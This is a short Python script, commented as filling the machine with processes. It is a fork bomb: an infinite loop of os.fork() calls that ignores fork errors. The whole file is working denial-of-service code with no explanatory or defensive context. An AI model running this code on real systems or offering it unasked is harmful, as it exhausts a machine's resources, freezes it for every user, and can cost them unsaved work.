# Fills the machine with processes.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
